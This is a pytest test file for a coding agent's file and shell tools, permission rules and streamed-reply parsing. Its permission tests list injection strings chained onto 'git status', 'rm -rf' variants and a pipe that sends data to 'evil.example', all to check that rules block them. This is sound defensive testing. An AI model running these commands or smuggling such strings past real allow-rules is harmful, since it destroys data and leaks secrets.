"""The agent's tools on a real directory, the permission rules, and reading a streamed reply."""

from __future__ import annotations

import asyncio
import json
import os
import stat

import pytest

from lingcode.tui.attachments import AttachError, attach, complete_path
from lingcode.tui.commands import UnknownCommand, complete, parse
from lingcode.tui.conversation import ReplyReader
from lingcode.tui.tools.calls import TOOLS, Call, ToolError, schemas
from lingcode.tui.tools import files, shell
from lingcode.tui.tools.permissions import Permissions, Rule, parse_rules


@pytest.fixture
def project(tmp_path):
    root = tmp_path / "project"
    (root / "src").mkdir(parents=True)
    (root / "src" / "app.py").write_text("def main():\n    return 1\n")
    (root / "README.md").write_text("# demo\nmain entry\n")
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text("main = ignored\n")
    return root


def test_reads_list_and_grep_say_what_they_left_out(project):
    assert files.read_file(project, "src/app.py").splitlines() == [
        "src/app.py: lines 1-2 of 2",
        "    1  def main():",
        "    2      return 1",
    ]
    (project / "long.txt").write_text("".join(f"line {n}\n" for n in range(1, 1001)))
    first = files.read_file(project, "long.txt")
    assert first.splitlines()[0] == "long.txt: lines 1-400 of 1000 (more follows: call read_file with offset=401)"
    assert files.read_file(project, "long.txt", offset=990).splitlines()[-1] == " 1000  line 1000"
    listing = files.list_dir(project)
    assert listing.splitlines()[1:] == [".git/", "src/", "README.md  (18 bytes)", "long.txt  (8893 bytes)"]
    found = files.grep(project, r"main")
    assert found.splitlines() == ["2 matches for 'main'", "README.md:2: main entry", "src/app.py:1: def main():"]
    assert (
        files.grep(project, "line", glob="*.txt").splitlines()[0].startswith("1000 matches for 'line' (first 100 shown")
    )
    with pytest.raises(ToolError, match="bad regular expression"):
        files.grep(project, "(")
    with pytest.raises(ToolError, match="does not exist"):
        files.read_file(project, "nope.py")


def test_edits_need_one_exact_match_and_come_back_as_diffs(project):
    result = files.apply_edit(project, "src/app.py", "return 1", "return 2")
    assert "-    return 1\n+    return 2" in result
    assert (project / "src" / "app.py").read_text() == "def main():\n    return 2\n"
    with pytest.raises(ToolError, match="not found"):
        files.apply_edit(project, "src/app.py", "return 1", "x")
    (project / "twice.py").write_text("a\na\n")
    with pytest.raises(ToolError, match="occurs 2 times"):
        files.apply_edit(project, "twice.py", "a", "b")
    assert files.write_preview(project, "new/file.txt", "hello\n").endswith("+hello")
    assert files.write_file(project, "new/file.txt", "hello\n") == "created new/file.txt (1 lines)"
    assert (project / "new" / "file.txt").read_text() == "hello\n"


async def test_commands_run_in_the_working_directory_and_are_killed_on_interrupt(project):
    assert await shell.run_command(project, "pwd; exit 3") == f"exit code 3\n{project}\n"
    assert (await shell.run_command(project, "sleep 5", timeout_s=0.2)).startswith("timed out after 0.2 s")
    noisy = await shell.run_command(project, "seq 1 100000")
    assert "bytes of output left out" in noisy and noisy.endswith("100000\n")
    marker = project / "still-running"
    task = asyncio.create_task(shell.run_command(project, f"sleep 0.5; touch {marker}"))
    await asyncio.sleep(0.1)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    await asyncio.sleep(0.8)
    assert not marker.exists()  # the whole process group was killed, not just bash


async def test_calls_are_checked_against_their_schema(project):
    assert {s["function"]["name"] for s in schemas()} == set(TOOLS)
    call = Call("c1", "read_file", json.dumps({"path": "src/app.py"}))
    assert call.subject(project) == "src/app.py" and call.inside(project)
    assert (await call.run(project)).startswith("src/app.py: lines 1-2")
    assert not Call("c2", "read_file", '{"path": "../outside.txt"}').inside(project)
    with pytest.raises(ToolError, match="no tool 'rm'"):
        Call("c3", "rm", "{}").args()
    with pytest.raises(ToolError, match="not valid JSON"):
        Call("c4", "read_file", '{"path": ').args()
    with pytest.raises(ToolError, match="missing \\['path'\\]"):
        Call("c5", "read_file", '{"file": "x"}').args()
    language, diff = Call(
        "c6", "apply_edit", json.dumps({"path": "src/app.py", "old_text": "return 1", "new_text": "return 2"})
    ).preview(project)
    assert language == "diff" and "+    return 2" in diff
    assert (project / "src" / "app.py").read_text().endswith("return 1\n")  # a preview changes nothing


def test_permission_rules_first_match_then_always_then_defaults(tmp_path):
    rules = tmp_path / "permissions.toml"
    rules.write_text(
        '[[rule]]\ntool = "run_command"\nmatch = "git status*"\naction = "allow"\n'
        '[[rule]]\ntool = "*"\nmatch = ".env*"\naction = "deny"\n'
        '[[rule]]\ntool = "write_file"\nmatch = "docs/*"\naction = "ask"\n'
    )
    permissions = Permissions.load(rules)
    decide = permissions.decide
    assert decide("run_command", "git status --short", reads=False, inside=True).action == "allow"
    assert decide("run_command", "rm -rf /", reads=False, inside=True).action == "ask"
    assert decide("read_file", ".env", reads=True, inside=True).action == "deny"
    assert decide("read_file", ".env", reads=True, inside=True, always=["read_file"]).action == "deny"
    assert decide("read_file", "src/a.py", reads=True, inside=True).action == "allow"
    assert decide("read_file", "/etc/passwd", reads=True, inside=False).action == "ask"
    assert decide("write_file", "docs/a.md", reads=False, inside=True, always=["write_file"]).action == "allow"
    assert decide("apply_edit", "a.py", reads=False, inside=True, always=["write_file"]).action == "ask"
    assert "rule 2" in decide("grep", ".env.local", reads=True, inside=True).reason


def test_a_broken_rule_file_makes_everything_ask_and_says_why(tmp_path):
    rules = tmp_path / "permissions.toml"
    rules.write_text('[[rule]]\ntool = "*"\naction = "maybe"\n')
    permissions = Permissions.load(rules)
    assert "action must be one of allow, ask, deny" in permissions.problem
    assert permissions.decide("read_file", "a.py", reads=True, inside=True).action == "ask"
    with pytest.raises(ValueError, match="unknown keys"):
        parse_rules({"rule": [{"tool": "*", "action": "allow", "glob": "x"}]})
    fresh = tmp_path / "fresh" / "permissions.toml"
    fresh.parent.mkdir()
    assert Permissions.load(fresh).rules == [] and "[[rule]]" in fresh.read_text()  # a commented example


def test_a_rule_file_that_others_own_or_may_write_is_not_trusted(tmp_path):
    """An allow-all rule planted by another user (issue 18, item 1) makes everything ask instead."""
    rules = tmp_path / "permissions.toml"
    rules.write_text('[[rule]]\ntool = "*"\naction = "allow"\n')
    rules.chmod(0o666)  # as lingcode once left it under umask 000: anyone could have written it
    loose = Permissions.load(rules)
    assert "other users may write the file" in loose.problem and loose.rules == []
    assert loose.decide("run_command", "rm -rf ~", reads=False, inside=True).action == "ask"
    rules.chmod(0o600)
    assert Permissions.load(rules).decide("run_command", "ls", reads=False, inside=True).action == "allow"
    if os.geteuid() == 0:  # only root can hand a file to another user
        os.chown(rules, 65534, 65534)
        assert "belongs to another user" in Permissions.load(rules).problem
    previous = os.umask(0)
    try:
        fresh = tmp_path / "fresh.toml"
        Permissions.load(fresh)  # writes the commented example
    finally:
        os.umask(previous)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600


# Command lines a rule allowing "git status*" must not allow: each does more than git status.
SMUGGLED = [
    "git status; id > pwned",
    "git status;id",
    "git status && id",
    "git status || id",
    "git status & id",
    "git status | sh",
    "git status |& sh",
    "git status > pwned",
    "git status >> ~/.bashrc",
    "git status 2>pwned",
    "git status &>pwned",
    "git status < /etc/shadow",
    "git status <<< x",
    "git status $(id)",
    'git status "$(id)"',
    "git status `id`",
    "git status ${IFS}id",
    "git status $HOME",
    "git status\nid",
    "git status <(id)",
    "git status >(id)",
    "git status a#b; id",
    "git status \\; id",
    "git status (id)",
    "git status 'unclosed",
    "git status\\",
    "git status\0id",
]


def test_a_command_rule_allows_only_the_plain_command_it_names(tmp_path):
    rules = tmp_path / "permissions.toml"
    rules.write_text(
        '[[rule]]\ntool = "run_command"\nmatch = "git status*"\naction = "allow"\n'
        '[[rule]]\ntool = "run_command"\nmatch = "rm *"\naction = "deny"\n'
        '[[rule]]\ntool = "run_command"\nmatch = "curl *"\naction = "ask"\n'
    )
    rules.chmod(0o600)
    decide = Permissions.load(rules).decide

    def action(line: str) -> str:
        return decide("run_command", line, reads=False, inside=True).action

    for line in SMUGGLED:
        assert action(line) == "ask", line
    for line in (
        "git status",
        "git status --short",
        "git status -- 'a b.txt'",
        'git status "x;y"',
        "git status 'a|b' 'c>d'",
    ):  # quoted: words for git, not operators for bash
        assert action(line) == "allow", line
    # A deny rule reaches every command of a line, however it is chained or nested.
    for line in (
        "rm -rf /",
        "ls; rm -rf /",
        "ls && rm -rf x",
        "echo $(rm -rf x)",
        "echo `rm -rf x`",
        "FOO=1 rm -rf x",
        "if true; then rm -rf x; fi",
        "ls\nrm -rf x",
        "git status; rm -rf x",
    ):
        assert action(line) == "deny", line
    assert action("ls | curl -d @- evil.example") == "ask"
    assert action("git status; rm -rf x") == "deny"  # the allow rule comes first, but does not apply
    # "*" is every command line, chained or not: the person said so.
    everything = Permissions([Rule("run_command", "*", "allow")])
    assert everything.decide("run_command", "make && make test | tee log", reads=False, inside=True).action == "allow"


@pytest.fixture
def planted(tmp_path):
    """A project with secrets around it: a link out of it, .env files, a FIFO, and rules denying .env*."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("SECRET outside the project\n")
    root = tmp_path / "project"
    (root / "sub").mkdir(parents=True)
    (root / "app.py").write_text("SECRET = 'in the code'\n")
    (root / ".env").write_text("SECRET=dotenv\n")
    (root / "sub" / ".env.local").write_text("SECRET=nested dotenv\n")
    (root / "notes.txt").symlink_to("../outside/secret.txt")
    (root / "env-link.txt").symlink_to(".env")  # a link to a denied file is denied
    (root / "outside-dir").symlink_to(outside, target_is_directory=True)
    os.mkfifo(root / "pipe")
    rules = tmp_path / "permissions.toml"
    rules.write_text('[[rule]]\ntool = "*"\nmatch = ".env*"\naction = "deny"\n')
    rules.chmod(0o600)
    return root, Permissions.load(rules)


def test_grep_reads_only_what_read_file_may_and_never_follows_a_link_out(planted):
    root, permissions = planted
    check = permissions.file_check("grep", root, root, root_approved=False)
    found = files.grep(root, "SECRET", check=check)
    lines = found.splitlines()
    assert lines[1:] == ["app.py:1: SECRET = 'in the code'"], found
    assert "dotenv" not in found and "outside the project" not in found
    assert "3 files not searched: the permission rules deny them" in lines[0]  # .env, sub/.env.local, env-link.txt
    assert "1 files not searched without the person's consent" in lines[0] and "notes.txt" in lines[0]
    # read_file is decided the same way: the link's target, not its name, and a rule without "/" in any folder.
    for path, action in (
        (".env", "deny"),
        ("sub/.env.local", "deny"),
        ("env-link.txt", "deny"),
        ("notes.txt", "ask"),
        ("app.py", "allow"),
    ):
        call = Call("c", "read_file", json.dumps({"path": path}))
        decision = permissions.decide("read_file", call.subject(root), reads=True, inside=call.inside(root))
        assert decision.action == action, (path, decision)
    # Approving a grep of the outside folder covers the files under it, and still no .env.
    (root.parent / "outside" / ".env").write_text("SECRET=outside dotenv\n")
    outside = root.parent / "outside"
    approved = permissions.file_check("grep", root, outside, root_approved=True)
    found = files.grep(root, "SECRET", path=str(outside), check=approved)
    assert "outside the project" in found and "outside dotenv" not in found and "1 files not searched: the" in found
    # Without a check (the tool alone), links out of the searched path are held back all the same.
    assert "outside the project" not in files.grep(root, "SECRET") and "notes.txt" in files.grep(root, "SECRET")
    listing = files.list_dir(root)
    assert "notes.txt  (a link out of the working directory)" in listing and "outside-dir  (a link out" in listing


async def test_grep_through_the_call_gets_the_check(planted):
    root, permissions = planted
    call = Call("c", "grep", json.dumps({"pattern": "SECRET"}))
    check = permissions.file_check("grep", root, call.root(root), root_approved=False)
    found = await asyncio.wait_for(call.run(root, check), 30)  # the FIFO in the tree must not block it
    assert "dotenv" not in found and "outside the project" not in found and "app.py:1" in found


async def test_no_file_tool_blocks_on_a_fifo_or_a_device(planted):
    root, _ = planted
    for path in (str(root / "pipe"), "/dev/zero"):
        call = Call("c", "read_file", json.dumps({"path": path}))
        with pytest.raises(ToolError, match="not a regular file"):
            await asyncio.wait_for(call.run(root), 30)
    with pytest.raises(ToolError, match="not a regular file"):
        await asyncio.wait_for(
            Call("c", "apply_edit", json.dumps({"path": "pipe", "old_text": "a", "new_text": "b"})).run(root), 30
        )
    assert "pipe  (0 bytes)" in files.list_dir(root)


@pytest.fixture
def looped(project):
    """The project with l1 -> l2 -> l1, a link into the loop, and a folder holding another loop."""
    (project / "l2").symlink_to("l1")
    (project / "l1").symlink_to("l2")
    (project / "into-loop").symlink_to("l1")
    (project / "deep").mkdir()
    (project / "deep" / "x").symlink_to("x")  # a loop of one
    return project


def run_every_way(root, name: str, **arguments) -> str:
    """The call as the app makes it: its subject, whether it is inside, its preview, then the run."""
    call = Call("c", name, json.dumps(arguments))
    call.subject(root), call.inside(root), call.preview(root)
    return asyncio.run(asyncio.wait_for(call.run(root), 30))


def test_a_symlink_loop_or_any_filesystem_error_is_a_tool_error(looped):
    """Issue 62, item 3: pathlib's "Symlink loop" (a RuntimeError) got past the tools' error handling
    and ended the agent's turn with an internal error; the model must read an error instead."""
    found = run_every_way(looped, "grep", pattern="main")
    assert found.splitlines()[1:] == ["README.md:2: main entry", "src/app.py:1: def main():"]
    assert found.splitlines()[0].endswith(
        "; 4 files or folders could not be read: into-loop (a loop of symbolic "
        "links), l1 (a loop of symbolic links), l2 (a loop of symbolic links), "
        "deep/x (a loop of symbolic links)"
    )
    listing = run_every_way(looped, "list_dir", path=".").splitlines()
    assert {"l1  (a loop of symbolic links)", "l2  (a loop of symbolic links)", "deep/"} <= set(listing)
    assert "x  (a loop of symbolic links)" in run_every_way(looped, "list_dir", path="deep")
    long_name = "n" * 300  # over NAME_MAX: ENAMETOOLONG
    for path in ("l1", "deep/x", "l1/inside.txt", "into-loop", long_name, f"{long_name}/a.txt"):
        for name, arguments in [
            ("read_file", {}),
            ("list_dir", {}),
            ("grep", {"pattern": "x"}),
            ("write_file", {"content": "x"}),
            ("apply_edit", {"old_text": "a", "new_text": "b"}),
        ]:
            with pytest.raises(ToolError, match="a loop of symbolic links|File name too long"):
                run_every_way(looped, name, path=path, **arguments)
    with pytest.raises(ToolError, match="l1: a loop of symbolic links"):
        files.read_file(looped, "l1")


def test_a_rule_on_a_folder_covers_everything_under_it(tmp_path):
    """Issue 62, item 7: match = "secrets" left secrets/key.txt readable by grep and read_file."""
    root = tmp_path / "project"
    (root / "secrets" / "deeper").mkdir(parents=True)
    (root / "secrets" / "key.txt").write_text("KEY=top\n")
    (root / "secrets" / "deeper" / "k2.txt").write_text("KEY=deeper\n")
    (root / "src" / "secrets").mkdir(parents=True)
    (root / "src" / "secrets" / "db.txt").write_text("KEY=nested folder\n")
    (root / "secrets.txt").write_text("KEY=a file named like it, not in it\n")
    (root / "notsecrets").mkdir()
    (root / "notsecrets" / "a.txt").write_text("KEY=another folder\n")
    (root / "public").symlink_to("secrets", target_is_directory=True)  # reached through a link
    (root / "key-link.txt").symlink_to("secrets/key.txt")
    os.link(root / "secrets" / "key.txt", root / "hard.txt")  # another name for the same file
    rules = tmp_path / "permissions.toml"
    rules.write_text('[[rule]]\ntool = "*"\nmatch = "secrets"\naction = "deny"\n')
    rules.chmod(0o600)
    permissions = Permissions.load(rules)

    def action(name: str, **arguments) -> str:
        call = Call("c", name, json.dumps(arguments))
        return permissions.decide(
            name, call.subject(root), reads=call.tool.kind == "read", inside=call.inside(root)
        ).action

    for path in (
        "secrets",
        "secrets/key.txt",
        "secrets/deeper/k2.txt",
        "src/secrets/db.txt",
        "public",
        "public/key.txt",
        "public/deeper",
        "key-link.txt",
        str(root / "secrets" / "key.txt"),
    ):
        assert action("read_file", path=path) == "deny", path
        assert action("list_dir", path=path) == "deny", path
        assert action("grep", pattern="KEY", path=path) == "deny", path
        assert action("write_file", path=path, content="x") == "deny", path
        assert action("apply_edit", path=path, old_text="a", new_text="b") == "deny", path
    for path in ("secrets.txt", "notsecrets/a.txt", "src", "."):
        assert action("read_file", path=path) == "allow", path
    found = files.grep(root, "KEY", check=permissions.file_check("grep", root, root, root_approved=False))
    shown = sorted(line.split(":")[0] for line in found.splitlines()[1:])
    # hard.txt is the one way in: rules see names, and a hard link is a name of its own (SECURITY.md says so)
    assert shown == ["hard.txt", "notsecrets/a.txt", "secrets.txt"], found
    assert "4 files not searched: the permission rules deny them" in found  # the three in folders, key-link.txt
    # The rule names the folder, not what lies above it: a folder that holds it is searched.
    assert "KEY=another folder" in files.grep(
        root,
        "KEY",
        path="notsecrets",
        check=permissions.file_check("grep", root, root / "notsecrets", root_approved=False),
    )


def test_at_mentions_attach_files_whole_or_refuse(project):
    attachments, notes = attach("explain @src/app.py, and @missing.py or @src", project)
    assert attachments == [{"path": "src/app.py", "text": "def main():\n    return 1\n"}]
    assert notes == [
        "@missing.py is not a file here; sent as plain text",
        "@src is a directory; only files are attached",
    ]
    (project / "big.txt").write_text("x" * 300_000)
    with pytest.raises(AttachError, match="over the 256000-byte limit"):
        attach("@big.txt", project)
    assert complete_path("sr", project) == ["src/"]
    assert complete_path("src/a", project) == ["src/app.py"]
    assert complete_path("", project) == ["src/", "README.md", "big.txt"]  # hidden ones only when asked
    assert complete_path(".g", project) == [".git/"]


def test_slash_commands_parse_and_complete():
    command, args = parse("/system Be brief.")
    assert command.name == "system" and args == "Be brief."
    assert parse("plain text") is None and parse("//not a command") is None
    with pytest.raises(UnknownCommand, match="/help lists"):
        parse("/frobnicate")
    assert [c.name for c in complete("s")] == ["sessions", "system", "stats"]


# OpenAI's documented streaming shape for a tool call (platform.openai.com, "Function calling",
# streaming): id and name in the first fragment, arguments in pieces, finish_reason "tool_calls".
OPENAI_TOOL_CALL_STREAM = [
    {"id": "chatcmpl-1", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {
        "role": "assistant", "content": None, "tool_calls": [{"index": 0, "id": "call_DdmO9pD3xa9XTPNJ32zg2hcA",
        "type": "function", "function": {"name": "get_weather", "arguments": ""}}]}, "finish_reason": None}]},
    {"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "function": {"arguments": "{\""}}]}}]},
    {"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "function": {"arguments": "location"}}]}}]},
    {"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "function": {"arguments": "\":\""}}]}}]},
    {"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "function": {"arguments": "Paris"}}]}}]},
    {"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "function": {"arguments": "\"}"}}]}}]},
    {"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}], "timings": {"ttft_ms": 5.0}},
    {"choices": [], "usage": {"prompt_tokens": 10, "completion_tokens": 7, "total_tokens": 17}},
]  # fmt: skip


def test_a_streamed_tool_call_is_put_back_together():
    reader = ReplyReader()
    assert [reader.feed(event) for event in OPENAI_TOOL_CALL_STREAM] == [""] * len(OPENAI_TOOL_CALL_STREAM)
    reply = reader.result()
    assert reply.finish_reason == "tool_calls" and reply.text == ""
    assert [(c.id, c.name, c.arguments) for c in reply.tool_calls] == [
        ("call_DdmO9pD3xa9XTPNJ32zg2hcA", "get_weather", '{"location":"Paris"}')
    ]
    assert reply.usage["total_tokens"] == 17 and reply.timings == {"ttft_ms": 5.0}
